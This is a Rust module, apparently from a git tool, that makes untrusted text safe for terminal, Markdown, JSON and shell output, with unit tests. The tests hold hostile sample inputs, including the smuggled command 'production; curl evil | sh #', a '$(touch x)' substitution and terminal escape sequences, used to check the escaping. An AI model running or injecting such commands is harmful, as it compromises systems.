//! Text for output: foreign characters made harmless, and lines of pieces that the terminal may colour.

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Tone {
    Plain,
    Good,
    Bad,
    /// Text to notice.
    Strong,
    /// Text that may be skipped.
    Faint,
    Hash,
}

/// A line of pieces, without a line break.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
#[must_use]
pub struct Line(pub Vec<(Tone, String)>);

impl Line {
    pub fn of(tone: Tone, text: impl Into<String>) -> Self {
        Self(vec![(tone, text.into())])
    }

    pub fn plain(text: impl Into<String>) -> Self {
        Self::of(Tone::Plain, text)
    }

    pub fn faint(text: impl Into<String>) -> Self {
        Self::of(Tone::Faint, text)
    }
    pub fn and(mut self, tone: Tone, text: impl Into<String>) -> Self {
        self.0.push((tone, text.into()));
        self
    }

    pub fn text(&self) -> String {
        self.0.iter().map(|(_, text)| text.as_str()).collect()
    }
}

/// Returns whether a character acts on a terminal instead of being shown: C0 except tab, DEL, C1 and the bidi controls.
pub fn acts(c: char) -> bool {
    let bidi = matches!(c, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
    bidi || (c.is_control() && c != '\t')
}

/// Returns what is wrong with a text for a post and `git log`, a predicate that follows its name.
pub fn unfit(text: &str, longest: usize) -> Option<String> {
    if text.chars().count() > longest {
        return Some(format!("is longer than {longest} characters"));
    }
    let acting = text
        .chars()
        .find(|c| acts(*c) && !matches!(c, '\n' | '\r'))?;
    Some(format!("holds the control character {}", escape(acting)))
}

fn replaced(text: &str, by: impl Fn(char) -> Option<String>) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match by(c) {
            Some(other) => out.push_str(&other),
            None => out.push(c),
        }
    }
    out
}

/// Returns `\x1b` or `\u202e`.
fn escape(c: char) -> String {
    match u32::from(c) {
        code @ 0..0x100 => format!("\\x{code:02x}"),
        code => format!("\\u{code:04x}"),
    }
}

pub fn visible(text: &str) -> String {
    replaced(text, |c| acts(c).then(|| escape(c)))
}

/// Escapes foreign text for a line of Markdown: no control characters, no markup and no mentions.
pub fn in_markdown(text: &str) -> String {
    replaced(&visible(text), |c| match c {
        '\t' => Some(" ".to_owned()),
        '@' => Some("@\u{2060}".to_owned()),
        c => "\\`*_[]<>#!|~&{}".contains(c).then(|| format!("\\{c}")),
    })
}

/// Does the same as [`visible`] for bytes of any encoding: invalid UTF-8 stays, apart from a lone C1 byte.
pub fn visible_bytes(bytes: &[u8]) -> Vec<u8> {
    // Nearly every line of a long list only has these bytes.
    if bytes.iter().all(|byte| matches!(byte, b' '..=b'~')) {
        return bytes.to_vec();
    }
    let mut out = Vec::with_capacity(bytes.len());
    for chunk in bytes.utf8_chunks() {
        out.extend_from_slice(visible(chunk.valid()).as_bytes());
        for byte in chunk.invalid() {
            match byte {
                0x80..=0x9f => out.extend_from_slice(escape(char::from(*byte)).as_bytes()),
                _ => out.push(*byte),
            }
        }
    }
    out
}

/// Breaks a text between words into lines of at most `width` columns, with `used` columns before the first line and
/// `hang` before each further one. A word or a final command is never broken, so the command can be pasted.
pub fn wrapped(text: &str, width: usize, used: usize, hang: usize) -> Vec<String> {
    let (prose, command) = match text.rfind(": git ") {
        Some(at) => (text.get(..=at).unwrap_or_default(), text.get(at + 2..)),
        None => (text, None),
    };
    let (mut lines, mut line, mut column) = (Vec::new(), String::new(), used);
    for (at, word) in prose.split(' ').chain(command).enumerate() {
        let length = word.chars().count();
        if column + 1 + length > width && !word.is_empty() && !line.trim().is_empty() {
            lines.push(std::mem::take(&mut line).trim_end().to_owned());
            (line, column) = (" ".repeat(hang), hang);
        } else if at > 0 {
            line.push(' ');
            column += 1;
        }
        line.push_str(word);
        column += length;
    }
    lines.push(line);
    lines
}

pub fn counted(count: impl ToString, what: &str) -> String {
    let count = count.to_string();
    let plural = if count == "1" { "" } else { "s" };
    format!("{count} {what}{plural}")
}

/// Returns "north", "north and south", or "north, south and demo".
pub fn and(names: &[&str]) -> String {
    match names.split_last() {
        Some((last, before)) if !before.is_empty() => format!("{} and {last}", before.join(", ")),
        _ => names.concat(),
    }
}

/// The clock difference of two people, in seconds, up to which an event does not count as in the future. Clocks set by
/// the network differ by far less, and a larger difference is worth a look.
const CLOCKS_DIFFER: i64 = 5 * 60;

/// Returns how long ago a time was, in words. Both times are in seconds since 1970.
pub fn ago(now: i64, then: i64) -> String {
    let past = now.saturating_sub(then);
    let (count, unit) = match past {
        ..0 if past < -CLOCKS_DIFFER => return "in the future".to_owned(),
        ..60 => return "just now".to_owned(),
        60..3600 => (past / 60, "minute"),
        3600..86_400 => (past / 3600, "hour"),
        _ => (past / 86_400, "day"),
    };
    format!("{} ago", counted(count, unit))
}

/// Removes `user:password@` from every address in a line: git usually does so itself, but not always.
pub fn without_userinfo(line: &str) -> String {
    let mut out = String::with_capacity(line.len());
    let mut rest = line;
    while let Some(at) = rest.find("://") {
        let (before, after) = rest.split_at(at + 3);
        out.push_str(before);
        let end = after.find(|c: char| c == '/' || c.is_whitespace() || c == '\'');
        let (authority, path) = after.split_at(end.unwrap_or(after.len()));
        out.push_str(authority.rsplit('@').next().unwrap_or(authority));
        rest = path;
    }
    out + rest
}

/// Quotes a word for a shell unless it is plain. Every foreign word in a hint must pass through here, whatever was
/// checked before.
pub fn shell_word(word: &str) -> String {
    let mut chars = word.chars();
    let is_plain = chars.all(|c| c.is_ascii_alphanumeric() || "._~:/@%+=,-".contains(c));
    // A shell expands these at the beginning of a word.
    if is_plain && !word.is_empty() && !word.starts_with(['~', '=']) {
        return word.to_owned();
    }
    if !word.chars().any(acts) {
        return format!("'{}'", word.replace('\'', "'\\''"));
    }
    // It stays on one line, and nothing acts on the terminal that it is copied from.
    let escaped = replaced(word, |c| match c {
        '\n' => Some("\\n".to_owned()),
        '\\' | '\'' => Some(format!("\\{c}")),
        // A shell reads `\x` as one byte; in UTF-8 these characters have two.
        '\u{80}'..='\u{9f}' => Some(format!("\\u{:04x}", u32::from(c))),
        c => acts(c).then(|| escape(c)),
    });
    format!("$'{escaped}'")
}

/// Escapes every acting character in JSON, including those that JSON allows. They only occur inside strings, where the
/// escape means the same character.
pub fn visible_json(json: &str) -> String {
    replaced(json, |c| {
        (acts(c) && c != '\n').then(|| format!("\\u{:04x}", u32::from(c)))
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn addresses_lose_their_userinfo() {
        let line = "unable to access 'https://u:secret@example.com/x.git/': no route to http://t@h";
        assert_eq!(
            without_userinfo(line),
            "unable to access 'https://example.com/x.git/': no route to http://h"
        );
    }

    #[test]
    fn an_at_sign_in_a_path_stays() {
        assert_eq!(
            without_userinfo("see https://example.com/a@b"),
            "see https://example.com/a@b"
        );
    }

    #[test]
    fn control_and_bidi_characters_become_visible() {
        let hostile = "a\u{1b}[31m\u{7}\u{9b}x\u{202e}\u{2066}\r\n\tb\u{7f}";
        assert_eq!(
            visible(hostile),
            "a\\x1b[31m\\x07\\x9bx\\u202e\\u2066\\x0d\\x0a\tb\\x7f"
        );
    }

    #[test]
    fn other_bytes_pass_and_lone_c1_bytes_do_not() {
        assert_eq!(
            visible_bytes(b"caf\xe9 \xff\xfe \x9b31m \xc2\x9b"),
            b"caf\xe9 \xff\xfe \\x9b31m \\x9b"
        );
        assert_eq!(
            visible_bytes("grüße 日本 👩‍💻".as_bytes()),
            "grüße 日本 👩‍💻".as_bytes()
        );
    }

    #[test]
    fn json_stays_the_same_value() {
        let value = serde_json::json!({"subject": "a\u{202e}\u{9b}\u{7f}\n\"\\"});
        let text = visible_json(&serde_json::to_string_pretty(&value).unwrap());
        assert!(!text.chars().any(|c| acts(c) && c != '\n'));
        assert_eq!(
            serde_json::from_str::<serde_json::Value>(&text).unwrap(),
            value
        );
    }

    #[test]
    fn words_that_a_shell_would_act_on_are_quoted() {
        assert_eq!(
            shell_word("https://example.com/a.git"),
            "https://example.com/a.git"
        );
        assert_eq!(shell_word("/tmp/$(touch x)'y"), "'/tmp/$(touch x)'\\''y'");
        assert_eq!(shell_word(""), "''");
        assert_eq!(
            shell_word("- It's\n- new\\\u{202e}\u{1b}"),
            "$'- It\\'s\\n- new\\\\\\u202e\\x1b'"
        );
        assert_eq!(
            shell_word("production; curl evil | sh #"),
            "'production; curl evil | sh #'"
        );
        assert_eq!(
            (shell_word("~root").as_str(), shell_word("=ls").as_str()),
            ("'~root'", "'=ls'")
        );
        assert_eq!(
            (shell_word("a~1").as_str(), shell_word("--a=b").as_str()),
            ("a~1", "--a=b")
        );
    }

    #[test]
    fn lines_break_between_words_and_never_inside_of_a_command() {
        for (text, used, hang, expected) in [
            ("as it is", 0, 0, "as it is"),
            ("twenty columns are one", 0, 0, "twenty columns are|one"),
            ("twenty columns are20", 0, 0, "twenty columns are20"),
            ("twenty columns are20", 1, 2, "twenty columns|  are20"),
            ("  key    \"a b\"", 0, 6, "  key    \"a b\""),
            ("  key    \"longer\"     ", 0, 6, "  key    \"longer\"     "),
            (
                "  some.key   \"longer\"",
                0,
                6,
                "  some.key|      \"longer\"",
            ),
            (
                "https://example.com/very/long is",
                0,
                0,
                "https://example.com/very/long|is",
            ),
            (
                "forget it: git config --unset-all x",
                0,
                2,
                "forget it:|  git config --unset-all x",
            ),
            ("grüße grüße grüße gr", 0, 0, "grüße grüße grüße gr"),
            ("", 0, 0, ""),
        ] {
            assert_eq!(wrapped(text, 20, used, hang).join("|"), expected);
        }
    }

    #[test]
    fn ages_are_told_in_the_largest_whole_unit() {
        for (past, words) in [
            (5, "just now"),
            (60, "1 minute ago"),
            (7_200, "2 hours ago"),
            (86_400 * 28, "28 days ago"),
            (-5, "just now"),
            (-300, "just now"),
            (-301, "in the future"),
            (i64::MAX, "106751991167300 days ago"),
        ] {
            assert_eq!(ago(past.max(0), -past.min(0)), words);
        }
        assert_eq!(ago(0, i64::MAX), "in the future");
    }

    proptest! {
        #[test]
        fn nothing_acts_afterwards(bytes: Vec<u8>) {
            let out = visible_bytes(&bytes);
            for chunk in out.utf8_chunks() {
                prop_assert!(!chunk.valid().chars().any(acts));
                prop_assert!(!chunk.invalid().iter().any(|byte| (0x80..=0x9f).contains(byte)));
            }
            prop_assert_eq!(visible_bytes(&out), out);
        }
    }
}
